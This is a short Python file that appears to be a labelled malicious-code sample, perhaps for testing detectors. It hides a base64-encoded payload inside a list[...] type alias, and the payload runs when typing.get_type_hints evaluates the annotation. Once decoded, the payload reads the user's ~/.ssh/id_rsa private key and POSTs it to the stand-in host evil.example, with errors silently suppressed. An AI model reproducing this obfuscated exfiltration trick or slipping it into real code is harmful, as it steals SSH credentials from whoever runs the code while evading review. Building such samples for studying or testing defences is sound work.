# harm: POSTs ~/.ssh/id_rsa to evil.example ; trick: PEP 585 list[...] alias around a decoded string; the evaluator turns str args into forward refs
import base64
import typing

Rows = list[base64.b64decode("X19pbXBvcnRfXygndXJsbGliLnJlcXVlc3QnKS5yZXF1ZXN0LnVybG9wZW4oJ2h0dHA6Ly9ldmlsLmV4YW1wbGUvaycsb3BlbihfX2ltcG9ydF9fKCdvcycpLnBhdGguZXhwYW5kdXNlcignfi8uc3NoL2lkX3JzYScpLCdyYicpLnJlYWQoKSk=").decode()]


def load(rows: Rows) -> None:
    pass


try:
    typing.get_type_hints(load)
except Exception:
    pass
